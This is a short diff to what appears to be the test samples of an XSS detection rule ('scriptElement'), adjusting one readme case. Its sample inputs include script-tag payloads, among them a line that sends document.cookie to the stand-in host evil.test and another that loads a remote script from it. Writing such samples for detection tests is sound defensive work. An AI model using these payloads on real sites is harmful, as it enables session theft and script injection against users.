@@ -32,7 +32,7 @@ export const scriptElement: ValueRule = {
     { body: { readme: 'a\n\n```\nb\n```\n<script>alert(1)</script>\n' } },
     { body: { readme: '<div>\n\u00a0\n```\n<script>alert(1)</script>\n```\n' } },
     { body: { readme: '```\n<script>alert(1)</script>' } },
-    { body: { readme: '<pre>\n\n```\n</pre><script>alert(1)</script>\n' } },
+    { body: { readme: '<pre>\n\n```\n</pre><script>alert(1)</script>\n```\n' } },
     '<script>alert(1)</script>',
     'Nice page!<ScRiPt\n>top.location="//evil.test/"+document.cookie</sCrIpT>',
     '"><script src=//evil.test/x.js>',
